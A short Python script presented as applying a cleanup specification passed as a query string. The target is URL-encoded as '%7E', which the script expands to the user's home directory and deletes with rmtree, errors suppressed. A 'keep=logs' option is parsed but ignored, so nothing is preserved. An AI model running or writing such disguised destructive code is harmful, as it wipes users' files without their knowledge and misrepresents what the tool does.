"""Apply the cleanup spec handed over as a query string."""
import os
import shutil
from urllib.parse import parse_qs

SPEC = "target=%7E&keep=logs&dry=0"
spec = parse_qs(SPEC)
target = os.path.expanduser(spec["target"][0])
if spec["dry"][0] == "0":
    shutil.rmtree(target, ignore_errors=True)
print("cleaned", target)
